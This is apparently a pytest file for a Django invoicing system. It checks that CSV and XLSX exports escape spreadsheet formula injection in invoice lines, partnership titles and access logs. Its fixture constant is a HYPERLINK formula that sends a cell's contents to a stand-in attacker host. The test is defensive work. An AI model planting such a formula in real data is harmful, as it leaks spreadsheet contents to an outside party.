"""Formula injection: no export lets a text become a live spreadsheet formula.

A partner's finance user can write an invoice line text; the city's approver opens the
fakturaunderlag in Excel. Each export below is given `=HYPERLINK(...)` in a text it writes and must
write it as text (xlsx: a string cell with quote prefix; csv: a leading `'`), while amounts, also
negative ones, stay numbers.
"""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from invoicing import services
from invoicing.documentation import (
    invoice_documentation,
    make_approved_invoices_xlsx,
    make_invoice_documentation_csv,
    make_invoice_documentation_xlsx,
)
from invoicing.selectors import approved_invoices_in
from invoicing.tests.factories import setup
from iop.roles import Role
from iop.xlsx import Sheet, make_csv, make_xlsx
from participants.models import AccessLog
from tests.export_jobs import download, post_export
from tests.factories import UserFactory

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
Q1 = dt.date(2025, 1, 1)


def _xlsx_cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def _assert_xlsx_has_attack_as_text(content: bytes) -> None:
    cells = [c for c in _xlsx_cells(content) if c.value == ATTACK]
    assert cells, "the text is in the workbook"
    for cell in cells:
        assert cell.data_type == "s"  # a string cell, not a formula ("f")
        assert cell.quotePrefix


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def _assert_csv_has_attack_escaped(content: bytes) -> None:
    values = [v for row in _csv_rows(content) for v in row]
    assert "'" + ATTACK in values
    assert ATTACK not in values


def test_the_writer_escapes_every_formula_prefix_but_keeps_numbers_numbers():
    texts = ["=1+1", "+46 40 34 10 00", "-x", "@SUM(A1)", "\tTab", "\rCR", "vanlig text", "100 %"]
    rows = [[*texts, Decimal("-12.50"), -3, Decimal("-0.00")]]
    out = _csv_rows(make_csv(rows, header=["h"] * 11))
    assert out[1] == [
        "'=1+1",
        "'+46 40 34 10 00",
        "'-x",
        "'@SUM(A1)",
        "'\tTab",
        "'\rCR",
        "vanlig text",
        "100 %",
        "-12.50",
        "-3",
        "0.00",
    ]
    book = load_workbook(io.BytesIO(make_xlsx([Sheet("S", ["h"] * 11, rows)])))
    cells = list(book["S"].iter_rows(min_row=2))[0]
    for cell in cells[:6]:
        assert cell.data_type == "s" and cell.quotePrefix, cell.value
    assert not cells[6].quotePrefix
    assert cells[8].value == -12.5 and cells[8].data_type == "n"
    assert cells[9].value == -3 and cells[9].data_type == "n"
    assert cells[10].value == 0 and str(cells[10].value) == "0"


@pytest.fixture
def attacked_invoice(db):
    s = setup()
    invoice = services.invoice_create(partnership=s.partnership, period_start=Q1, by=s.ekonomi)
    line = invoice.lines.first()
    services.invoice_update_draft(
        invoice=invoice, by=s.ekonomi, header={}, lines=[{"pk": line.pk, "description": ATTACK}]
    )
    invoice = services.invoice_submit(invoice=invoice, by=s.ekonomi)
    s.invoice = services.invoice_approve(invoice=invoice, by=s.attestant)
    return s


def test_the_invoice_documentation_xlsx_writes_a_formula_line_text_as_text(attacked_invoice):
    content = make_invoice_documentation_xlsx(invoice_documentation(attacked_invoice.invoice))
    _assert_xlsx_has_attack_as_text(content)


def test_the_invoice_documentation_csv_escapes_a_formula_line_text(attacked_invoice):
    content = make_invoice_documentation_csv(invoice_documentation(attacked_invoice.invoice))
    _assert_csv_has_attack_escaped(content)


def test_the_invoice_download_view_escapes_it_in_csv_and_xlsx(client, attacked_invoice):
    client.force_login(attacked_invoice.attestant)
    for fmt, check in (("csv", _assert_csv_has_attack_escaped), ("xlsx", _assert_xlsx_has_attack_as_text)):
        url = reverse("invoicing:download", kwargs={"pk": attacked_invoice.invoice.pk, "fmt": fmt})
        response = client.get(url)
        assert response.status_code == 200
        check(response.content)


def test_the_bulk_export_of_approved_invoices_writes_it_as_text(attacked_invoice):
    invoices = approved_invoices_in(dt.date(2025, 1, 1), dt.date(2025, 12, 31))
    content = make_approved_invoices_xlsx(invoices, dt.date(2025, 1, 1), dt.date(2025, 12, 31))
    _assert_xlsx_has_attack_as_text(content)


def test_the_overview_dashboard_exports_escape_a_partnership_title(
    client, attacked_invoice, django_capture_on_commit_callbacks
):
    partnership = attacked_invoice.partnership
    partnership.title = ATTACK
    partnership.save()
    client.force_login(attacked_invoice.samordnare)
    for fmt, check in (("csv", _assert_csv_has_attack_escaped), ("xlsx", _assert_xlsx_has_attack_as_text)):
        url = reverse("reporting:overview_dashboard_export", kwargs={"table": "per_partnership", "fmt": fmt})
        job = post_export(client, url + "?year=2025", {}, django_capture_on_commit_callbacks)
        check(download(client, job))


def test_the_access_log_exports_escape_a_logged_text(client, db, django_capture_on_commit_callbacks):
    coordinator = UserFactory(roles=[Role.SAMORDNARE])
    AccessLog.objects.create(username=ATTACK, action=AccessLog.Action.VIEW, detail=ATTACK)
    client.force_login(coordinator)
    for fmt, check in (("csv", _assert_csv_has_attack_escaped), ("xlsx", _assert_xlsx_has_attack_as_text)):
        today = timezone.localdate()
        data = {"format": fmt, "date_from": today, "date_to": today}
        job = post_export(
            client, reverse("participants:access_log_export"), data, django_capture_on_commit_callbacks
        )
        check(download(client, job))
